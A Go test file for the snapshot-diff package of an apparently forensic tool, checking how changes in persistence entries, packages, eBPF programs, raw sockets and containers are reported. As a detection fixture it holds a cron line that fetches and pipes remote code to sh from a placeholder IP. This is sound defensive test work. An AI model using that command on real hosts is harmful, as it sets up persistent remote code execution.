package diff

import (
	"bytes"
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/hozen-dfir/hozen/manifest"
)

func bs(s ...string) []manifest.BString { return argv(s...) }

var (
	crontab = PersistEntry{Kind: "cron", Path: "/etc/crontab", Mode: "-rw-r--r--", Size: 100, MTime: *at(0),
		Lines: bs("17 * * * * root cd / && run-parts --report /etc/cron.hourly")}
	sshdUnit = PersistEntry{Kind: "systemd", Path: "/etc/systemd/system/sshd.service", Mode: "-rw-r--r--", Size: 300, MTime: *at(0),
		Lines: bs("ExecStartPre=/usr/sbin/sshd -t", "ExecStart=/usr/sbin/sshd -D $SSHD_OPTS")}
)

// TestPersistenceCronAddedUnitChanged: a cron entry added is new and
// marked flagged; a unit whose ExecStart changed is changed, with the
// line gone, the line new and its mtime; an entry with the same lines in
// another order and another line number is not a change.
func TestPersistenceCronAddedUnitChanged(t *testing.T) {
	old := snap(func(s *Snapshot) { s.Persistence = []PersistEntry{crontab, sshdUnit} })
	evil := PersistEntry{Kind: "cron", Path: "/var/spool/cron/crontabs/www-data", User: "www-data", Size: 40, MTime: *at(20),
		Lines: bs("* * * * * curl -s http://203.0.113.9/x | sh"), Flags: []string{"persistence-download-exec"}}
	unit := sshdUnit
	unit.Lines = bs("ExecStartPre=/usr/sbin/sshd -t", "ExecStart=/usr/sbin/sshd -D -p 2222")
	unit.MTime, unit.Size = *at(25), 290
	new := snap(func(s *Snapshot) { s.Persistence = []PersistEntry{unit, crontab, evil} })
	sec := sectionOf(t, Compare(old, new), SectionPersistence)
	if !sec.Compared {
		t.Fatalf("persistence not compared: %s", sec.NotCompared)
	}
	wantEntries(t, sec,
		"+ cron /var/spool/cron/crontabs/www-data (user www-data) [flagged: persistence-download-exec]",
		"~ systemd /etc/systemd/system/sshd.service")
	got := sec.Entries[1].Details
	want := []string{"line gone: ExecStart=/usr/sbin/sshd -D $SSHD_OPTS", "line new: ExecStart=/usr/sbin/sshd -D -p 2222",
		"size 300 -> 290", "mtime 2026-03-01T08:00:00Z -> 2026-03-01T08:25:00Z"}
	if !slices.Equal(got, want) {
		t.Errorf("unit details\n  %s\nwant\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}
	if sec.Added != 1 || sec.Changed != 1 || sec.Removed != 0 {
		t.Errorf("counts %d/%d/%d", sec.Added, sec.Removed, sec.Changed)
	}

	// Lines reordered: no change. A ctime or mode alone: a change.
	moved := sshdUnit
	moved.Lines = []manifest.BString{sshdUnit.Lines[1], sshdUnit.Lines[0]}
	wantEntries(t, sectionOf(t, Compare(old, snap(func(s *Snapshot) { s.Persistence = []PersistEntry{crontab, moved} })), SectionPersistence))
	touched := crontab
	touched.CTime, touched.Mode = at(30), "-rwxrwxrwx"
	sec = sectionOf(t, Compare(old, snap(func(s *Snapshot) { s.Persistence = []PersistEntry{touched, sshdUnit} })), SectionPersistence)
	wantEntries(t, sec, "~ cron /etc/crontab")
	if d := strings.Join(sec.Entries[0].Details, "|"); d != "ctime ? -> 2026-03-01T08:30:00Z|mode -rw-r--r-- -> -rwxrwxrwx" {
		t.Errorf("details %q", d)
	}
	// A per-user file is told apart by its user.
	other := crontab
	other.User = "alice"
	wantEntries(t, sectionOf(t, Compare(old, snap(func(s *Snapshot) { s.Persistence = []PersistEntry{other, sshdUnit} })), SectionPersistence),
		"- cron /etc/crontab", "+ cron /etc/crontab (user alice)")
}

// TestPackagesUpgradedRemoved: an upgrade is a change showing old -> new;
// a removed package is gone; the same name on another architecture is
// another package.
func TestPackagesUpgradedRemoved(t *testing.T) {
	pkgs := func(ps ...Package) func(*Snapshot) { return func(s *Snapshot) { s.Packages = ps } }
	ssl := Package{Manager: "dpkg", Name: "openssl", Arch: "amd64", Version: "3.0.11-1~deb12u1", Status: "install ok installed"}
	nc := Package{Manager: "dpkg", Name: "netcat-openbsd", Arch: "amd64", Version: "1.219-1", Status: "install ok installed"}
	libc := Package{Manager: "dpkg", Name: "libc6", Arch: "amd64", Version: "2.36-9", Status: "install ok installed"}
	up := ssl
	up.Version = "3.0.13-1~deb12u1"
	libc32 := libc
	libc32.Arch = "i386"
	r := Compare(snap(pkgs(ssl, nc, libc)), snap(pkgs(libc, up, libc32)))
	sec := sectionOf(t, r, SectionPackages)
	wantEntries(t, sec,
		"- netcat-openbsd:amd64 1.219-1",
		"+ libc6:i386 2.36-9",
		"~ openssl:amd64 3.0.13-1~deb12u1")
	if d := sec.Entries[2].Details; !slices.Equal(d, []string{"version 3.0.11-1~deb12u1 -> 3.0.13-1~deb12u1"}) {
		t.Errorf("upgrade details %q", d)
	}
	// No inventory in one bundle (not Debian, or an older hozen): not compared.
	if s := sectionOf(t, Compare(snap(nil), snap(pkgs(ssl))), SectionPackages); s.Compared || !strings.HasPrefix(s.NotCompared, "OLD does not hold it") {
		t.Errorf("packages with no OLD inventory: %+v", s)
	}
}

// TestPackageFileFailsVerify: a program that fails verification in NEW
// only is new; one that failed in both with another digest is changed;
// one that no longer fails is gone.
func TestPackageFileFailsVerify(t *testing.T) {
	ls := PackageFile{Package: "coreutils", Path: "/usr/bin/ls", Kind: "checksum", Expected: "aaaa", Actual: "bbbb"}
	conf := PackageFile{Package: "openssh-server", Path: "/etc/ssh/sshd_config", Kind: "checksum", Conffile: true, Expected: "cccc", Actual: "dddd"}
	gone := PackageFile{Package: "procps", Path: "/usr/bin/ps", Kind: "missing"}
	old := snap(func(s *Snapshot) { s.PackageFiles = []PackageFile{conf, gone}; s.VerifyScope = "programs" })
	conf2 := conf
	conf2.Actual = "eeee"
	new := snap(func(s *Snapshot) { s.PackageFiles = []PackageFile{ls, conf2}; s.VerifyScope = "all" })
	r := Compare(old, new)
	sec := sectionOf(t, r, SectionPackageFiles)
	wantEntries(t, sec,
		"- /usr/bin/ps (procps) missing",
		"+ /usr/bin/ls (coreutils) checksum md5 bbbb",
		"~ /etc/ssh/sshd_config (openssh-server) checksum, conffile md5 eeee")
	if d := sec.Entries[2].Details; !slices.Equal(d, []string{"md5 dddd -> eeee"}) {
		t.Errorf("details %q", d)
	}
	if !slices.ContainsFunc(r.Notes, func(n string) bool { return strings.Contains(n, "scope programs in OLD and all in NEW") }) {
		t.Errorf("no note on the verify scopes: %q", r.Notes)
	}
}

// TestKernelItemsAndContainers: a packet socket, an eBPF program and a
// container that appeared; a program reloaded with another id is the same
// program; a container that went from exited to running is changed.
func TestKernelItemsAndContainers(t *testing.T) {
	sniff := RawSocket{Table: "packet", Protocol: "ETH_P_ALL", Type: "raw", UID: 0, Owners: []string{"666/sniffd"}}
	ping := RawSocket{Table: "raw", Protocol: "icmp", Local: "0.0.0.0", Owners: []string{"10/ping"}}
	prog := BPFProgram{ID: 10, Type: "cgroup_skb", Name: "sd_fw_ingress", Tag: "6deef7357e7b4530", Holders: []string{"1/systemd"}}
	kp := BPFProgram{ID: 77, Type: "kprobe", Name: "hide_pid", Tag: "0011223344556677", Holders: []string{"666/sniffd"}}
	web := Container{Runtime: "docker", ID: "4f1c0b3a9e2d4f1c0b3a9e2d", Name: "web", Image: "nginx:1.25", State: "exited", Mounts: []string{}}
	priv := Container{Runtime: "docker", ID: "beefbeefbeefbeefbeef", Name: "x", Image: "alpine", State: "running", Privileged: true,
		HostPID: true, Mounts: []string{"/:/host"}}
	old := snap(func(s *Snapshot) {
		s.RawSockets, s.BPFPrograms, s.Containers = []RawSocket{ping}, []BPFProgram{prog}, []Container{web}
	})
	reloaded := prog
	reloaded.ID = 12
	up := web
	up.State = "running"
	new := snap(func(s *Snapshot) {
		s.RawSockets, s.BPFPrograms, s.Containers = []RawSocket{ping, sniff}, []BPFProgram{reloaded, kp}, []Container{up, priv}
	})
	r := Compare(old, new)
	wantEntries(t, sectionOf(t, r, SectionRawSockets), "+ packet ETH_P_ALL raw iface 0 by 666/sniffd")
	wantEntries(t, sectionOf(t, r, SectionBPF), "+ kprobe hide_pid (tag 0011223344556677, id 77) held by 666/sniffd")
	sec := sectionOf(t, r, SectionContainers)
	wantEntries(t, sec, "+ docker beefbeefbeef x image alpine (running) privileged", "~ docker 4f1c0b3a9e2d web image nginx:1.25 (running)")
	if d := sec.Entries[1].Details; !slices.Equal(d, []string{"state exited -> running"}) {
		t.Errorf("details %q", d)
	}
}

// TestNewSectionsInJSON: the new sections are in the JSON under the same
// schema, with the thing itself as old/new.
func TestNewSectionsInJSON(t *testing.T) {
	old := snap(func(s *Snapshot) { s.Packages = []Package{{Manager: "dpkg", Name: "openssl", Version: "1"}} })
	new := snap(func(s *Snapshot) { s.Packages = []Package{{Manager: "dpkg", Name: "openssl", Version: "2"}} })
	var buf bytes.Buffer
	if err := WriteJSON(&buf, Compare(old, new)); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Schema   string `json:"schema"`
		Sections []struct {
			Name    string `json:"name"`
			Entries []struct {
				Old, New Package
			} `json:"entries"`
		} `json:"sections"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != "hozen-diff/1" {
		t.Errorf("schema %q", doc.Schema)
	}
	var names []string
	for _, s := range doc.Sections {
		names = append(names, s.Name)
		if s.Name == SectionPackages && (len(s.Entries) != 1 || s.Entries[0].Old.Version != "1" || s.Entries[0].New.Version != "2") {
			t.Errorf("packages entries %+v", s.Entries)
		}
	}
	want := "processes listening connections raw-sockets users groups logins persistence files packages package-files modules ebpf containers findings"
	if strings.Join(names, " ") != want {
		t.Errorf("sections %q, want %q", strings.Join(names, " "), want)
	}
}

// TestFindingSamePathOtherTitle: a finding of one rule on one path whose
// title says how long before collection the file changed is one finding in
// both collections, not one gone and one new.
func TestFindingSamePathOtherTitle(t *testing.T) {
	f := Finding{Rule: "persistence-recent", Severity: "medium", Title: "cron entry changed 0s before collection: /etc/crontab", Path: "/etc/crontab"}
	g := f
	g.Title = "cron entry changed 1s before collection: /etc/crontab"
	sec := sectionOf(t, Compare(snap(func(s *Snapshot) { s.Findings = []Finding{f} }), snap(func(s *Snapshot) { s.Findings = []Finding{g} })), SectionFindings)
	wantEntries(t, sec, "~ medium persistence-recent: cron entry changed 1s before collection: /etc/crontab")
}
